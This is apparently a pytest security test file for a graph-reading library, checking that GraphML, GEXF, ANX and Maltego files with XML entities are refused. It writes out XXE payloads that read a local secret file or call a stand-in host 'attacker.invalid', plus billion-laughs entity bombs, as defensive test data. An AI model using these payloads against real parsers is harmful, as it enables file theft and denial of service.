"""Hostile XML: entities are never expanded, nothing local is read, nothing remote is fetched, bombs fail fast."""

from __future__ import annotations

import io
import urllib.request
import zipfile

import pytest

from linkchart.io import CaseFileError, read_graph

BODIES = {
    "graphml": ('<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><key id="l" for="node" attr.name="label" attr.type="string"/>'
                '<graph edgedefault="directed"><node id="n"><data key="l">{payload}</data></node></graph></graphml>'),
    "gexf": '<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph><nodes><node id="n" label="{payload}"/></nodes></graph></gexf>',
    "anx": ('<Chart IdReferenceLinking="false"><ChartItemCollection><ChartItem Label="{payload}"><End X="0" Y="0">'
            '<Entity EntityId="n" Identity="n"/></End></ChartItem></ChartItemCollection></Chart>'),
}
ROOTS = {"graphml": "graphml", "gexf": "gexf", "anx": "Chart"}
LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def _document(fmt: str, doctype: str, payload: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {ROOTS[fmt]} {doctype}>\n' + BODIES[fmt].replace("{payload}", payload)


@pytest.fixture
def no_fetching(monkeypatch):
    """Fail loudly if anything tries to open a URL (sockets are blocked for the whole suite as well)."""
    calls: list[object] = []
    monkeypatch.setattr(urllib.request, "urlopen", lambda *a, **k: calls.append(a) or pytest.fail("tried to fetch a URL"))
    return calls


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "anx"])
def test_an_external_entity_naming_a_local_file_is_not_read(tmp_path, fmt, no_fetching):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PASSWORD", encoding="utf-8")
    path = tmp_path / f"evil.{fmt}"
    path.write_text(_document(fmt, f'[<!ENTITY x SYSTEM "{secret.as_uri()}">]', "&x;"), encoding="utf-8")
    with pytest.raises(CaseFileError, match="declares XML entities") as info:
        read_graph(path)
    assert "TOP-SECRET" not in str(info.value) and not no_fetching


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "anx"])
def test_an_external_entity_naming_a_url_is_not_fetched(tmp_path, fmt, no_fetching):
    path = tmp_path / f"evil.{fmt}"
    path.write_text(_document(fmt, '[<!ENTITY x SYSTEM "http://attacker.invalid/steal">]', "&x;"), encoding="utf-8")
    with pytest.raises(CaseFileError, match="declares XML entities"):
        read_graph(path)
    assert not no_fetching


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "anx"])
def test_billion_laughs_fails_at_once_with_a_clear_error(tmp_path, fmt):
    path = tmp_path / f"bomb.{fmt}"
    path.write_text(_document(fmt, f'[<!ENTITY lol0 "lol">{LAUGHS}]', "&lol9;"), encoding="utf-8")
    with pytest.raises(CaseFileError, match="declares XML entities"):
        read_graph(path)


def test_a_bomb_in_utf16_is_refused_too(tmp_path):
    text = _document("anx", f'[<!ENTITY lol0 "lol">{LAUGHS}]', "&lol9;").replace("UTF-8", "UTF-16")
    (tmp_path / "bomb.anx").write_bytes(text.encode("utf-16"))
    with pytest.raises(CaseFileError, match="declares XML entities"):
        read_graph(tmp_path / "bomb.anx")


def test_a_parameter_entity_fetching_an_external_dtd_is_refused(tmp_path, no_fetching):
    path = tmp_path / "evil.graphml"
    path.write_text(_document("graphml", '[<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]', "x"), encoding="utf-8")
    with pytest.raises(CaseFileError, match="declares XML entities"):
        read_graph(path)
    assert not no_fetching


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "anx"])
@pytest.mark.parametrize("doctype", ['SYSTEM "http://www.graphdrawing.org/dtds/graphml.dtd"', "[<!ELEMENT anything ANY>]"])
def test_a_harmless_dtd_is_allowed_and_nothing_is_fetched(tmp_path, fmt, doctype, no_fetching):
    path = tmp_path / f"dtd.{fmt}"
    path.write_text(_document(fmt, doctype, "Iran"), encoding="utf-8")
    assert [e.label for e in read_graph(path).entities] == ["Iran"]
    assert not no_fetching


def test_an_entity_inside_a_maltego_archive_is_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("Graphs/Graph1.graphml", _document("graphml", f'[<!ENTITY lol0 "lol">{LAUGHS}]', "&lol9;"))
    (tmp_path / "evil.mtgx").write_bytes(buffer.getvalue())
    with pytest.raises(CaseFileError, match=r"evil\.mtgx: .*declares XML entities"):
        read_graph(tmp_path / "evil.mtgx")
